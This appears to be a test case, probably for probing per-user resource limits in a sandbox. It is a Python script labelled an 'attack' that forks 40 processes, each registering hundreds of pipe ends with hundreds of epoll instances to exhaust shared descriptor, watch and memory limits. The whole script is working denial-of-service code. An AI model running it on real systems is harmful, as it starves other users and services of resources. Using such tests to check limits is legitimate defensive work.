# attack: watches on descriptors: all processes of a user share how many there may be
# must: files and sockets open|MiB of memory
# passed: 0
# beside: right answers
import contextlib
import os
import select
import time

for _ in range(40):
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            watching = [select.epoll() for _ in range(240)]
            watched = [end for _ in range(120) for end in os.pipe()]
            for one in watching:
                for end in watched:
                    one.register(end)
        time.sleep(600)
time.sleep(600)
